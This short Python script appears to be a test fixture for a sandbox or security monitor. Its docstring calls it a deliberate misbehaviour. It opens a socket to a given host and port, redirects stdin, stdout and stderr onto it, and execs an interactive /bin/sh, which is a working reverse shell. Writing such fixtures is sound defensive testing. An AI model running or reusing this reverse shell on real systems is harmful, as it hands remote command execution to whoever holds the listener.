"""Misbehaves: the shape of a reverse shell: a socket on stdin/stdout/stderr, then a shell.
Arguments: host port (a listener the test runs)."""

from __future__ import annotations

import os
import socket
import sys

from _common import act, behave, host_address, survived

behave()
sock = socket.create_connection((host_address(sys.argv[1]), int(sys.argv[2])), timeout=5)
act("reverse_shell")
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
survived("reverse_shell")
